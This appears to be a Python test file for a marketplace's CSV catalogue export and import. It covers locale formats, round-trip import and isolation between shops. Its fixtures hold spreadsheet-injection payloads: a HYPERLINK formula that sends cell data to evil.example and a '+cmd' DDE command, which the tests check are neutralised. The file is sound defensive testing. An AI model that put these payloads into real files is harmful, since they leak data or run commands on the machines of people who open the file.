"""A shopkeeper downloads the catalogue, edits it in a spreadsheet, and imports it back."""

import csv
import io

import pytest

from marketplace.extensions import db
from tests.conftest import alerts, english_client, post_form
from tests.factories import login, make_product, make_shop, shop_state

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez ici")'


@pytest.fixture
def client(app):
    """The messages below are checked in English: this browser asks for English pages."""
    return english_client(app)


@pytest.fixture
def shop(app, client):
    shop = make_shop(name="Épicerie Fine du Canal", category="epicerie-fine")
    make_product(
        shop,
        "Huile d'olive",
        1890,
        stock=12,
        sku="HUILE-1",
        category="Huiles",
        description="Première pression à froid.\nBouteille de 75 cl.",
    )
    make_product(shop, "Miel de châtaignier", 950, sku="MIEL/250", category="Miels")
    make_product(shop, "Sel de Guérande", 420, stock=0, is_active=False)
    make_product(shop, "Poivre; noir", 675, description='Grains "Tellicherry", 100 g')
    make_product(shop, FORMULA, 100, category="+cmd|' /C calc'!A0", description="@SUM(1+1)")
    make_product(shop, "-20 % sur les thés", 1200, sku="THE")
    # Two products of the same name and no SKU, told apart by their description only.
    make_product(shop, "Coffret cadeau", 2500, description="Petit : 3 pots")
    make_product(shop, "Coffret cadeau", 4500, description="Grand : 6 pots")
    login(client, shop.owner)
    return shop


def export(client, shop, fmt="fr"):
    url = f"/merchant/shops/{shop.slug}/products/export.csv"
    response = client.get(url, query_string={"format": fmt})
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    return response.data


def rows_of(data: bytes, delimiter: str) -> list[dict]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # so that Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_the_french_export_uses_semicolons_and_decimal_commas(app, client, shop):
    rows = {r["sku"] or r["name"]: r for r in rows_of(export(client, shop, "fr"), ";")}
    assert rows["HUILE-1"]["price"] == "18,90"
    assert rows["HUILE-1"]["stock"] == "12"
    assert rows["HUILE-1"]["description"] == "Première pression à froid.\nBouteille de 75 cl."
    assert rows["MIEL/250"]["stock"] == ""  # unlimited
    assert (rows["Sel de Guérande"]["active"], rows["Sel de Guérande"]["stock"]) == ("0", "0")


def test_the_english_export_uses_commas_and_decimal_points(app, client, shop):
    rows = {r["sku"] or r["name"]: r for r in rows_of(export(client, shop, "en"), ",")}
    assert rows["HUILE-1"]["price"] == "18.90"
    assert rows["Poivre; noir"]["description"] == 'Grains "Tellicherry", 100 g'


def test_cells_a_spreadsheet_would_run_as_formulas_are_neutralised(app, client, shop):
    for fmt, delimiter in (("fr", ";"), ("en", ",")):
        rows = rows_of(export(client, shop, fmt), delimiter)
        cells = [cell for row in rows for cell in row.values()]
        assert "'" + FORMULA in cells
        assert "'+cmd|' /C calc'!A0" in cells
        assert "'@SUM(1+1)" in cells
        assert "'-20 % sur les thés" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("fmt", ["fr", "en"])
def test_export_then_import_changes_nothing(app, client, shop, fmt):
    before = shop_state(shop.id)
    data = export(client, shop, fmt)
    response = post_form(
        client,
        f"/merchant/shops/{shop.slug}/products/import",
        {"file": (io.BytesIO(data), "catalogue.csv")},
        token_from=f"/merchant/shops/{shop.slug}/products/",
    )
    assert response.status_code == 302
    page = client.get(response.headers["Location"], headers={"Accept-Language": "en"})
    assert ("success", "Import done: 0 added, 0 updated, 8 unchanged.") in alerts(page)
    assert shop_state(shop.id) == before


def test_another_shop_s_products_are_not_exported(app, client, shop):
    other = make_shop(name="Cave Voisine", category="caviste")
    make_product(other, "Sancerre 2023", 1800)
    db.session.commit()
    assert "Sancerre" not in export(client, shop).decode()
